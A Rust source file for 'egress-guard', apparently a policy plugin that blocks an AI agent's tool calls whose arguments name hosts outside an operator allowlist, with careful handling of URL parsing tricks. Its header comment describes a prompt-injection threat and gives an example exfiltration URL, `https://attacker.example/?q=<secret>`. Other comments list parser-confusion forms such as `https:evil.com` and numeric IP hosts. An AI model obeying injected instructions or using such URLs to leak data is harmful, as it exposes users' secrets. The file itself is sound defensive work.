//! egress-guard: denies a `tools/call` whose arguments name a host the operator did not allow for
//! that tool. The threat is data leaving by URL: an instruction injected into a page or a document
//! makes the agent call `web:fetch` with `https://attacker.example/?q=<secret>`.
//!
//! Settings: `[[rules]]`, each with `tools` (`server:tool` patterns) and `allow` (host patterns:
//! `example.com`, `*.example.com`, IP addresses, CIDR ranges, `*`). The first rule whose `tools`
//! cover the call applies; a call no rule covers is not this module's business (abstain). Under a
//! rule, every host found in the arguments must match one of its `allow` patterns, or the call is
//! denied with `egress-not-allowed`.
//!
//! Where hosts are found, after the arguments are parsed as JSON (so `\u002e` and `\/` are decoded):
//! - URLs anywhere in any string, object keys included, nested at any depth, inside longer text,
//!   and inside other URLs (`?next=https://...`, percent-encoded or not). A URL is a special scheme
//!   (`http`, `https`, `ws`, `wss`, `ftp`) followed by `:` (WHATWG parsers read `https:evil.com`
//!   and `https:\evil.com` as host `evil.com`), or any scheme followed by `://`.
//! - Bare host names: the whole string value of an argument whose key names a host (`hosts_in`:
//!   `host`, `hostname`, `domain`, `url`, `uri`, `endpoint` by default, matched on the key's last
//!   word, so `smtp_host`, `targetUrl` and `domains` count), with or without port, userinfo, path,
//!   or a leading `//`. Numbers there too (`2130706433` is 127.0.0.1).
//!
//! Hosts are read as the WHATWG URL parser (the `url` crate) reads them: lowercased, IDNA mapped to
//! punycode (so a Cyrillic `а` never matches `a`), percent-decoded, IPv4 number forms in dotted
//! decimal, one trailing dot dropped, IPv4-mapped IPv6 as IPv4. Where an RFC 3986 parser would
//! read another host (a `\` in the authority, several `@`), that host must be allowed too. A URL
//! whose host cannot be read at all is denied.
use policy_sdk::{Decision, Phases, Policy, Settings, ToolCall, pattern};
use serde::Deserialize;
use serde_json::Value;
use std::borrow::Cow;
use std::net::IpAddr;
use std::sync::OnceLock;
use url::{Host, Url};

/// Argument keys whose string value is read as a host when a rule does not say otherwise.
pub const DEFAULT_HOSTS_IN: &[&str] = &["host", "hostname", "domain", "url", "uri", "endpoint"];

/// Special schemes: a WHATWG parser reads an authority after `scheme:` even without `//`.
const SPECIAL_SCHEMES: &[&str] = &["http", "https", "ws", "wss", "ftp"];

/// Schemes without an authority: a host-key value starting with one of these names no host.
const NO_AUTHORITY_SCHEMES: &[&str] = &[
    "mailto",
    "urn",
    "data",
    "javascript",
    "tel",
    "sms",
    "about",
    "magnet",
    "news",
];

/// Longest authority (userinfo, host, port) read; a longer one is denied as unreadable.
const MAX_AUTHORITY: usize = 1024;

/// How deep percent-encoded URLs inside URLs are decoded and scanned.
const MAX_DECODE_DEPTH: u8 = 2;

/// Most allow patterns a denial lists; a longer list is summarised.
const MAX_LISTED: usize = 8;

/// Longest host a denial shows whole; a longer one (perhaps data spelled as subdomains) is cut
/// to its last labels.
const MAX_SHOWN_HOST: usize = 64;

/// How much of a long host a denial shows: its last labels, up to this many bytes.
const SHOWN_TAIL: usize = 32;

/// Operator settings (`egress-guard.toml`).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EgressSettings {
    /// Argument keys whose whole string value is a host (or a URL without a scheme); a rule's own
    /// `hosts_in` replaces this list for that rule.
    #[serde(default = "default_hosts_in")]
    pub hosts_in: Vec<String>,
    /// The rules, first match wins.
    #[serde(default)]
    pub rules: Vec<Rule>,
    /// The checked and normalised rules, built once by [`Settings::validate`].
    #[serde(skip)]
    compiled: OnceLock<Result<Vec<CompiledRule>, String>>,
}

/// One rule: the tools it covers and the hosts they may reach.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Rule {
    /// `server:tool` patterns (the allowlist's syntax).
    pub tools: Vec<String>,
    /// Host patterns; an empty list allows no host at all.
    pub allow: Vec<String>,
    /// Replaces the top-level `hosts_in` for this rule.
    #[serde(default)]
    pub hosts_in: Option<Vec<String>>,
}

fn default_hosts_in() -> Vec<String> {
    DEFAULT_HOSTS_IN.iter().map(|s| (*s).to_owned()).collect()
}

impl Settings for EgressSettings {
    fn validate(&self) -> Result<(), String> {
        self.compiled().map(|_| ())
    }
}

impl EgressSettings {
    /// The rules checked and normalised (once; later calls reuse the result).
    fn compiled(&self) -> Result<&[CompiledRule], String> {
        self.compiled
            .get_or_init(|| self.compile())
            .as_deref()
            .map_err(Clone::clone)
    }

    fn compile(&self) -> Result<Vec<CompiledRule>, String> {
        if self.rules.is_empty() {
            return Err(
                "egress-guard needs at least one [[rules]] entry (tools = [...], allow = [...])"
                    .into(),
            );
        }
        let global = compile_keys(&self.hosts_in, "hosts_in")?;
        self.rules
            .iter()
            .enumerate()
            .map(|(i, rule)| {
                if rule.tools.is_empty() {
                    return Err(format!(
                        "rules[{i}].tools is empty: give the server:tool patterns the rule covers"
                    ));
                }
                for p in &rule.tools {
                    pattern::validate(p).map_err(|e| format!("rules[{i}].tools: {e}"))?;
                }
                let allow = rule
                    .allow
                    .iter()
                    .map(|p| parse_allow(p).map_err(|e| format!("rules[{i}].allow: {p:?}: {e}")))
                    .collect::<Result<Vec<_>, _>>()?;
                let hosts_in = match &rule.hosts_in {
                    Some(keys) => compile_keys(keys, &format!("rules[{i}].hosts_in"))?,
                    None => global.clone(),
                };
                Ok(CompiledRule {
                    tools: rule.tools.clone(),
                    allow,
                    hosts_in,
                })
            })
            .collect()
    }
}

fn compile_keys(keys: &[String], field: &str) -> Result<Vec<String>, String> {
    keys.iter()
        .map(|k| {
            let k = k.trim();
            if k.is_empty() || k.chars().any(char::is_whitespace) {
                Err(format!("{field}: {k:?} is not an argument name"))
            } else {
                Ok(k.to_ascii_lowercase())
            }
        })
        .collect()
}

/// A rule ready to apply.
#[derive(Debug)]
struct CompiledRule {
    tools: Vec<String>,
    allow: Vec<Allowed>,
    /// Lowercase.
    hosts_in: Vec<String>,
}

/// One allow pattern, normalised, with the form a denial shows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Allowed {
    kind: AllowKind,
    shown: String,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum AllowKind {
    /// `*`: any host.
    Any,
    /// Exactly this domain (punycode, lowercase, no trailing dot).
    Exact(String),
    /// Any subdomain of the domain: holds `.example.com`.
    Subdomains(String),
    /// An address range (a single address has the full prefix length).
    Net(IpAddr, u8),
}

impl Allowed {
    /// The pattern as normalised (`*.xn--bcher-kva.example`, `10.0.0.0/8`).
    pub fn as_str(&self) -> &str {
        &self.shown
    }

    fn matches(&self, target: &Target) -> bool {
        match (&self.kind, target) {
            (AllowKind::Any, _) => true,
            (AllowKind::Exact(d), Target::Domain(h)) => d == h,
            (AllowKind::Subdomains(s), Target::Domain(h)) => {
                h.len() > s.len() && h.ends_with(s.as_str())
            }
            (AllowKind::Net(net, len), Target::Ip(ip)) => in_net(*ip, *net, *len),
            _ => false,
        }
    }
}

/// Parses one allow pattern: `*`, `example.com`, `*.example.com`, an IP address (IPv6 with or
/// without brackets) or a CIDR range. Domains are lowercased and IDNA-mapped to punycode.
pub fn parse_allow(pattern: &str) -> Result<Allowed, String> {
    let p = pattern.trim();
    if p.is_empty() {
        return Err("empty pattern".into());
    }
    if p == "*" {
        return Ok(Allowed {
            kind: AllowKind::Any,
            shown: "*".into(),
        });
    }
    if p.contains("://") {
        return Err("give a host name (example.com), not a URL".into());
    }
    if let Some((addr, len)) = p.split_once('/') {
        return parse_cidr(addr, len);
    }
    if p.contains(['@', '?', '#', '\\']) || p.chars().any(char::is_whitespace) {
        return Err("not a host name".into());
    }
    if let Some(base) = p.strip_prefix("*.") {
        if base.contains('*') {
            return Err("`*` only as the whole first label: *.example.com".into());
        }
        return match normalise_host_pattern(base)? {
            Target::Domain(d) => Ok(Allowed {
                shown: format!("*.{d}"),
                kind: AllowKind::Subdomains(format!(".{d}")),
            }),
            Target::Ip(_) => Err("`*.` only before a domain name, not an address".into()),
        };
    }
    if p.contains('*') {
        return Err("`*` only as the whole first label (*.example.com) or alone (any host)".into());
    }
    if p.starts_with('.') {
        return Err("write *.example.com for the subdomains of example.com".into());
    }
    match normalise_host_pattern(p)? {
        Target::Domain(d) => Ok(Allowed {
            shown: d.clone(),
            kind: AllowKind::Exact(d),
        }),
        Target::Ip(ip) => Ok(Allowed {
            shown: ip.to_string(),
            kind: AllowKind::Net(ip, max_prefix(ip)),
        }),
    }
}

fn normalise_host_pattern(p: &str) -> Result<Target, String> {
    let bare = p
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .unwrap_or(p);
    if let Ok(ip) = bare.parse::<IpAddr>() {
        return Ok(Target::Ip(canonical_ip(ip)));
    }
    if p.contains(':') {
        return Err("ports are not part of a pattern: give the host alone".into());
    }
    let host = Host::parse(p).map_err(|e| format!("not a host name ({e})"))?;
    match target_of(host) {
        Some(t) => Ok(t),
        None => Err("not a host name".into()),
    }
}

fn parse_cidr(addr: &str, len: &str) -> Result<Allowed, String> {
    let bare = addr
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .unwrap_or(addr);
    let ip: IpAddr = bare
        .parse()
        .map_err(|_| "a range is an IP address, `/` and a prefix length (10.0.0.0/8)".to_owned())?;
    let len: u8 = len
        .parse()
        .ok()
        .filter(|&l| l <= max_prefix(ip))
        .ok_or_else(|| format!("prefix length must be 0 to {}", max_prefix(ip)))?;
    if mask(ip, len) != ip {
        return Err(format!(
            "address bits set past the prefix: write {}/{len}",
            mask(ip, len)
        ));
    }
    // An IPv4-mapped range (`::ffff:10.0.0.0/104`) is the IPv4 range, as hosts are compared.
    let (ip, len) = match canonical_ip(ip) {
        IpAddr::V4(v4) if ip.is_ipv6() && len >= 96 => (IpAddr::V4(v4), len - 96),
        _ => (ip, len),
    };
    Ok(Allowed {
        shown: format!("{ip}/{len}"),
        kind: AllowKind::Net(ip, len),
    })
}

fn max_prefix(ip: IpAddr) -> u8 {
    match ip {
        IpAddr::V4(_) => 32,
        IpAddr::V6(_) => 128,
    }
}

/// `ip` with the bits past `len` cleared.
fn mask(ip: IpAddr, len: u8) -> IpAddr {
    match ip {
        IpAddr::V4(a) => {
            let m = u32::MAX.checked_shl(32 - u32::from(len)).unwrap_or(0);
            IpAddr::V4((u32::from(a) & m).into())
        }
        IpAddr::V6(a) => {
            let m = u128::MAX.checked_shl(128 - u32::from(len)).unwrap_or(0);
            IpAddr::V6((u128::from(a) & m).into())
        }
    }
}

fn in_net(ip: IpAddr, net: IpAddr, len: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(_), IpAddr::V4(_)) | (IpAddr::V6(_), IpAddr::V6(_)) => mask(ip, len) == net,
        _ => false,
    }
}

/// IPv4-mapped IPv6 (`::ffff:127.0.0.1`) as the IPv4 address it is.
fn canonical_ip(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
        v4 => v4,
    }
}

/// A host, normalised for comparison.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Target {
    /// ASCII (punycode), lowercase, no trailing dot.
    Domain(String),
    Ip(IpAddr),
}

impl Target {
    /// The host for a denial; a long one is cut to its last labels (a subdomain may spell data).
    fn shown(&self) -> String {
        match self {
            Target::Ip(ip) => ip.to_string(),
            Target::Domain(d) if d.len() <= MAX_SHOWN_HOST => d.clone(),
            Target::Domain(d) => {
                // The last label, and those before it that fit in SHOWN_TAIL bytes.
                let mut start = d.rfind('.').map_or(0, |i| i + 1);
                while let Some(dot) = d[..start.saturating_sub(1)].rfind('.') {
                    if d.len() - (dot + 1) > SHOWN_TAIL {
                        break;
                    }
                    start = dot + 1;
                }
                format!("…{}", &d[start..])
            }
        }
    }
}

fn target_of<S: AsRef<str>>(host: Host<S>) -> Option<Target> {
    match host {
        Host::Domain(d) => {
            let d = d.as_ref();
            let d = d.strip_suffix('.').unwrap_or(d);
            (!d.is_empty()).then(|| Target::Domain(d.to_ascii_lowercase()))
        }
        Host::Ipv4(a) => Some(Target::Ip(IpAddr::V4(a))),
        Host::Ipv6(a) => Some(Target::Ip(canonical_ip(IpAddr::V6(a)))),
    }
}

/// A host found in the arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Found {
    Host(Target),
    /// A URL or host value whose host no parser reading would accept.
    Unreadable,
}

/// Where the hosts found go: the first one the rule does not allow is kept, and the scan stops.
struct Finder<'a> {
    rule: &'a CompiledRule,
    bad: Option<Found>,
}

impl Finder<'_> {
    fn push(&mut self, found: Found) {
        if self.bad.is_none()
            && match &found {
                Found::Host(t) => !self.rule.allows(t),
                Found::Unreadable => true,
            }
        {
            self.bad = Some(found);
        }
    }

    fn done(&self) -> bool {
        self.bad.is_some()
    }
}

/// Reads the hosts in `a` as an authority (`user@host:port`). With `strict`, a failure to read
/// one is reported as [`Found::Unreadable`]; otherwise it is dropped.
fn authority_hosts(a: &str, strict: bool, out: &mut Finder) {
    if a.is_empty() {
        return;
    }
    if a.len() > MAX_AUTHORITY {
        if strict {
            out.push(Found::Unreadable);
        }
        return;
    }
    let mut read = |a: &str| match plain_domain(a).or_else(|| parse_host(a)) {
        Some(t) => out.push(Found::Host(t)),
        None if strict => out.push(Found::Unreadable),
        None => {}
    };
    read(a);
    // Several `@`: WHATWG and most parsers take the host after the last; a parser splitting at
    // the first would take what follows it, so each such segment must be allowed too.
    let mut ats = a.match_indices('@').map(|(i, _)| i).peekable();
    while let (Some(at), Some(&next)) = (ats.next(), ats.peek()) {
        read(&a[at + 1..next]);
    }
}

/// The host of `http://{a}/` as the WHATWG parser reads it.
fn parse_host(a: &str) -> Option<Target> {
    Url::parse(&format!("http://{a}/"))
        .ok()
        .and_then(|u| u.host().and_then(target_of))
}

/// The fast path of [`parse_host`] for the common case, an ASCII name of letters, digits, `-`
/// and `.` whose last label starts with a letter (so it is no IPv4 number form) and none with
/// `xn--` (which IDNA checks): there the parser only lowercases it.
fn plain_domain(a: &str) -> Option<Target> {
    let d = a.strip_suffix('.').unwrap_or(a);
    let plain = !d.is_empty()
        && d.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.')
        && d.rsplit('.')
            .next()
            .is_some_and(|last| last.starts_with(|c: char| c.is_ascii_alphabetic()))
        && !d
            .split('.')
            .any(|l| l.len() >= 4 && l[..4].eq_ignore_ascii_case("xn--"));
    plain.then(|| Target::Domain(d.to_ascii_lowercase()))
}

/// The authority at the start of `r`: up to the first of `ends`, at most [`MAX_AUTHORITY`] + 1
/// bytes looked at (a longer one is cut there, and then refused as too long).
fn authority_in<'s>(r: &'s str, ends: &[u8]) -> &'s str {
    let end = r
        .bytes()
        .take(MAX_AUTHORITY + 1)
        .position(|b| ends.contains(&b))
        .unwrap_or(r.len().min(MAX_AUTHORITY + 1));
    // Cut on a character boundary (the delimiters are ASCII; the cap may fall inside a character).
    let mut end = end;
    while !r.is_char_boundary(end) {
        end += 1;
    }
    &r[..end]
}

/// How a scheme's authority is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// `http`, `https`, `ws`, `wss`, `ftp`: a WHATWG parser skips any run of `/` and `\`.
    Special,
    /// `file`: `file://host/...`, or a UNC path `file:////host/share`; `file:///path` is local.
    File,
    /// Any other scheme: `//`, then the authority.
    Other,
}

fn kind_of(scheme: &str) -> Kind {
    if SPECIAL_SCHEMES
        .iter()
        .any(|s| s.eq_ignore_ascii_case(scheme))
    {
        Kind::Special
    } else if scheme.eq_ignore_ascii_case("file") {
        Kind::File
    } else {
        Kind::Other
    }
}

/// The authority at the start of `r` up to the first of `ends`; with `in_text`, one that runs to
/// the end of `r` (a token from running text) loses trailing punctuation.
fn authority_view<'s>(r: &'s str, ends: &[u8], in_text: bool) -> Cow<'s, str> {
    let a = authority_in(r, ends);
    let a = if in_text && a.len() == r.len() {
        trim_trailing(a)
    } else {
        a
    };
    // Escape `\` for the WHATWG parser that reads the host: where it is part of the authority,
    // it is a plain character.
    if a.contains('\\') {
        Cow::Owned(a.replace('\\', "%5C"))
    } else {
        Cow::Borrowed(a)
    }
}

/// Reads the hosts of the URL whose text after `scheme:` is `rest`, under each reading a client
/// may make: a WHATWG parser's (for a special scheme: any run of `/` and `\`, then the authority
/// up to `/`, `\`, `?` or `#`), an RFC 3986 parser's (`//`, then up to `/`, `?` or `#`; `\` is a
/// plain character), and for other schemes one that takes `\` for `/`. With `in_text`, `rest` is
/// a token cut from running text, and an authority that runs to its end loses the punctuation
/// text puts after a URL.
fn url_hosts(rest: &str, kind: Kind, strict: bool, in_text: bool, out: &mut Finder) {
    let first = match kind {
        Kind::Special => Some(authority_view(
            rest.trim_start_matches(['/', '\\']),
            b"/\\?#",
            in_text,
        )),
        Kind::File => {
            let slashes = rest
                .bytes()
                .take_while(|b| matches!(b, b'/' | b'\\'))
                .count();
            (slashes == 2 || slashes >= 4)
                .then(|| authority_view(&rest[slashes..], b"/\\?#", in_text))
        }
        Kind::Other => None,
    };
    let (rfc, lenient) = match rest.strip_prefix("//") {
        Some(r) => (
            Some(authority_view(r, b"/?#", in_text)),
            (kind == Kind::Other).then(|| authority_view(r, b"/\\?#", in_text)),
        ),
        None => (None, None),
    };
    let views = [first, rfc, lenient];
    for (i, v) in views.iter().enumerate() {
        if let Some(v) = v
            && !views[..i].iter().any(|seen| seen.as_ref() == Some(v))
        {
            authority_hosts(v, strict, out);
        }
    }
}

fn is_scheme_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')
}

fn is_special(scheme: &str) -> bool {
    kind_of(scheme) == Kind::Special
}

/// `scheme` and the text after its `:`, when `s` starts with a syntactically valid scheme.
fn leading_scheme(s: &str) -> Option<(&str, &str)> {
    let b = s.as_bytes();
    if !b.first()?.is_ascii_alphabetic() {
        return None;
    }
    let end = b.iter().position(|&c| !is_scheme_byte(c))?;
    (b[end] == b':').then(|| (&s[..end], &s[end + 1..]))
}

/// Ends a URL in running text.
fn ends_token(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, '"' | '<' | '>' | '`')
}

/// Drops trailing punctuation that running text puts after a URL, and closing brackets that
/// open nowhere in it (`(see https://example.com).`).
fn trim_trailing(mut t: &str) -> &str {
    while let Some(c) = t.chars().last() {
        let strip = match c {
            '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*' => true,
            ')' => !t.contains('('),
            ']' => !t.contains('['),
            '}' => !t.contains('{'),
            _ => false,
        };
        if !strip {
            break;
        }
        t = &t[..t.len() - c.len_utf8()];
    }
    t
}

/// Reads the hosts of every URL in `s`. Linear in `s`: each token end is found once, each
/// authority is read from at most [`MAX_AUTHORITY`] bytes, each token is decoded at most once.
fn string_hosts(s: &str, depth: u8, out: &mut Finder) {
    // The string as a whole, as a client handed it would read it: C0 controls and spaces trimmed,
    // tabs and newlines removed (`https://example.com\n.evil.net/` is host example.com.evil.net).
    let t = s.trim_matches(|c: char| c <= ' ');
    let whole: Cow<str> = if t.contains(['\t', '\n', '\r']) {
        Cow::Owned(t.replace(['\t', '\n', '\r'], ""))
    } else {
        Cow::Borrowed(t)
    };
    if let Some((scheme, rest)) = leading_scheme(&whole)
        && (is_special(scheme) || rest.starts_with("//"))
    {
        // Not strict: running text that starts with a URL is read token by token below.
        url_hosts(rest, kind_of(scheme), false, false, out);
    }

    // Every URL in running text: a special scheme and `:`, or any scheme (or none) and `://`.
    let b = s.as_bytes();
    let mut token_end = 0;
    let mut decoded_to = 0;
    for (colon, _) in s.match_indices(':') {
        if out.done() {
            return;
        }
        let mut start = colon;
        while start > 0 && is_scheme_byte(b[start - 1]) {
            start -= 1;
        }
        let scheme = &s[start..colon];
        let after = &s[colon + 1..];
        if !(after.starts_with("//") || is_special(scheme)) {
            continue;
        }
        if token_end <= colon {
            token_end = colon + 1 + after.find(ends_token).unwrap_or(after.len());
        }
        let token = &s[colon + 1..token_end];
        url_hosts(token, kind_of(scheme), true, true, out);
        // `?next=https%3A%2F%2Fevil.example`: decode and look again (the decoded token holds
        // every later URL of the same token too).
        if depth < MAX_DECODE_DEPTH && decoded_to < token_end {
            decoded_to = token_end;
            if !token.contains('%') {
                continue;
            }
            let decoded = percent_decode(&s[start..token_end]);
            if decoded != s[start..token_end] {
                string_hosts(&decoded, depth + 1, out);
            }
        }
    }
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        if b[i] == b'%'
            && let (Some(h), Some(l)) = (
                b.get(i + 1).copied().and_then(hex),
                b.get(i + 2).copied().and_then(hex),
            )
        {
            out.push((h * 16 + l) as u8);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Reads the host a host-key value names: a bare host, `host:port`, `user@host`, a URL without a
/// scheme, `//host/...`. URLs with a scheme are left to [`string_hosts`]; relative paths and
/// schemes without an authority (`mailto:`) name no host.
fn bare_hosts(s: &str, out: &mut Finder) {
    // As a URL parser would read it: tabs and newlines removed, ends trimmed.
    let t = s.trim_matches(|c: char| c <= ' ' || c.is_whitespace());
    let cleaned: Cow<str> = if t.contains(['\t', '\n', '\r']) {
        Cow::Owned(t.replace(['\t', '\n', '\r'], ""))
    } else {
        Cow::Borrowed(t)
    };
    let t = cleaned.as_ref();
    if t.is_empty() {
        return;
    }
    if let Some((scheme, rest)) = leading_scheme(t) {
        if is_special(scheme) || rest.starts_with("//") {
            return;
        }
        if NO_AUTHORITY_SCHEMES
            .iter()
            .any(|n| n.eq_ignore_ascii_case(scheme))
        {
            return;
        }
    }
    if (t.starts_with('/') && !t.starts_with("//"))
        || t.starts_with(['?', '#'])
        || t == "."
        || t == ".."
        || t.starts_with("./")
        || t.starts_with("../")
    {
        return;
    }
    let bare = t
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .unwrap_or(t);
    if let Ok(ip) = bare.parse::<IpAddr>() {
        out.push(Found::Host(Target::Ip(canonical_ip(ip))));
        return;
    }
    if t.starts_with(['/', '\\']) {
        url_hosts(t, Kind::Special, true, false, out);
    } else {
        url_hosts(&format!("//{t}"), Kind::Special, true, false, out);
    }
}

impl CompiledRule {
    fn allows(&self, t: &Target) -> bool {
        self.allow.iter().any(|a| a.matches(t))
    }

    /// True when the value of `key` names a host: the key, or its last word (`smtp_host`,
    /// `targetUrl`), is in `hosts_in`, singular or plural.
    fn is_host_key(&self, key: &str) -> bool {
        if self.hosts_in.is_empty() {
            return false;
        }
        let listed = |w: &str| {
            let w = w.to_ascii_lowercase();
            self.hosts_in
                .iter()
                .any(|k| *k == w || w.strip_suffix('s') == Some(k.as_str()))
        };
        listed(key) || last_word(key).is_some_and(listed)
    }

    /// The first host in `v` this rule does not allow, with where it is.
    fn first_denied(
        &self,
        v: &Value,
        host_key: bool,
        path: &mut String,
    ) -> Option<(String, Found)> {
        let finder = || Finder {
            rule: self,
            bad: None,
        };
        match v {
            Value::String(s) => {
                let mut out = finder();
                if host_key {
                    bare_hosts(s, &mut out);
                }
                if !out.done() {
                    string_hosts(s, 0, &mut out);
                }
                out.bad.map(|f| (path.clone(), f))
            }
            Value::Number(n) if host_key => {
                let mut out = finder();
                bare_hosts(&n.to_string(), &mut out);
                out.bad.map(|f| (path.clone(), f))
            }
            Value::Array(items) => items.iter().enumerate().find_map(|(i, item)| {
                let len = path.len();
                path.push_str(&format!("[{i}]"));
                let found = self.first_denied(item, host_key, path);
                path.truncate(len);
                found
            }),
            Value::Object(map) => map.iter().find_map(|(k, item)| {
                let mut out = finder();
                string_hosts(k, 0, &mut out);
                if let Some(f) = out.bad {
                    return Some((format!("a key of {path}"), f));
                }
                let len = path.len();
                push_key(path, k);
                let found = self.first_denied(item, self.is_host_key(k), path);
                path.truncate(len);
                found
            }),
            _ => None,
        }
    }

    /// What the denial says about the allowed hosts.
    fn allowed_summary(&self) -> String {
        match self.allow.len() {
            0 => "no host is allowed for it".into(),
            n if n <= MAX_LISTED => format!(
                "allowed: {}",
                self.allow
                    .iter()
                    .map(Allowed::as_str)
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
            n => format!(
                "allowed: {}, … ({n} patterns in the egress-guard settings)",
                self.allow[..MAX_LISTED]
                    .iter()
                    .map(Allowed::as_str)
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
        }
    }
}

/// The last word of a key split at `_`, `-`, `.`, spaces and lower-to-upper case changes.
fn last_word(key: &str) -> Option<&str> {
    let b = key.as_bytes();
    let mut start = 0;
    for i in 1..b.len() {
        let separated = matches!(b[i - 1], b'_' | b'-' | b'.' | b' ');
        let camel = b[i].is_ascii_uppercase() && b[i - 1].is_ascii_lowercase();
        if separated || camel {
            start = i;
        }
    }
    let w = &key[start..];
    (!w.is_empty()).then_some(w)
}

/// Appends `.key` to a path; a key that is not a plain name (it may carry data) is not shown.
fn push_key(path: &mut String, key: &str) {
    if !key.is_empty()
        && key.len() <= 40
        && key
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
    {
        path.push('.');
        path.push_str(key);
    } else {
        path.push_str(&format!("[<key of {} bytes>]", key.len()));
    }
}

/// The rule.
pub struct EgressGuard;

impl Policy for EgressGuard {
    type Settings = EgressSettings;
    const PHASES: Phases = Phases::CALL;
    // No CALL_TRIGGERS: a bare host name has no marker.

    fn call(call: &ToolCall, settings: &EgressSettings) -> Decision {
        let rules = match settings.compiled() {
            Ok(rules) => rules,
            Err(e) => return Decision::deny("egress-guard-settings", e),
        };
        let Some(rule) = rules
            .iter()
            .find(|r| pattern::any_matches(&r.tools, &call.server, &call.tool))
        else {
            return Decision::abstain();
        };
        let Some(raw) = call.arguments.as_deref() else {
            return Decision::abstain();
        };
        let args: Value = match serde_json::from_str(raw) {
            Ok(v) => v,
            // Not JSON: read the text as it is.
            Err(_) => Value::String(raw.to_owned()),
        };
        let Some((path, found)) = rule.first_denied(&args, false, &mut String::from("arguments"))
        else {
            return Decision::abstain();
        };
        let tool = format!("{}:{}", call.server, call.tool);
        let reason = match found {
            Found::Host(t) => format!(
                "{path} names host {}, which {tool} may not reach ({})",
                t.shown(),
                rule.allowed_summary()
            ),
            Found::Unreadable => format!(
                "{path} holds a URL or host whose host cannot be read; {tool} may reach only known hosts ({})",
                rule.allowed_summary()
            ),
        };
        Decision::deny("egress-not-allowed", reason)
    }
}

policy_sdk::export_policy!(EgressGuard);

#[cfg(test)]
mod tests;
